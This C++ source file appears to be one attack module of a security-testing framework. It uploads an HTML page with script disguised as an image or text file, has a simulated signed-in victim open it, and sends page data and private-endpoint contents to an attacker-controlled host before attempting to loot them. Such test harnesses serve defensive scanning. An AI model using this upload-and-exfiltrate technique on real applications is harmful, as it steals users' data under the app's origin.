// mime-upload: uploads a page with a script under names and types of pictures and texts, and sends
// the victim to it. What a browser takes for HTML or SVG runs with the rights of the app's origin
// (OWASP File Upload Cheat Sheet; MIME Sniffing standard).
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"
#include "core/attack/upload.h"

namespace parapet::attack {
namespace {

class MimeUpload final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        evil->answer(evil->folder() + "c", {.status = 204});
        std::string const address = address_on(*evil, "c");
        std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                             send_script(Channel::Image, address, kAllInReach);
        for (Endpoint const* each : private_endpoints(target))
            script += fetch_and_send(each->path, address);
        auto const paths = upload(
            target, "<!doctype html><title>A picture</title><script>" + script + "</script>");
        if (paths.empty() || !victim_signs_in(target)) return;
        for (std::string const& path : paths) {
            bool const is_whole = path.find("://") != std::string::npos;
            target.victim()->opens(is_whole ? path : app_origin(target) + path);
            target.victim()->turns_away();
        }
        target.note(std::to_string(paths.size()) + " uploaded files were opened by a link.");
        try_loot(target, received_texts(target));
    }
};

}  // namespace

std::unique_ptr<Agent> make_mime_upload() { return std::make_unique<MimeUpload>(); }

}  // namespace parapet::attack
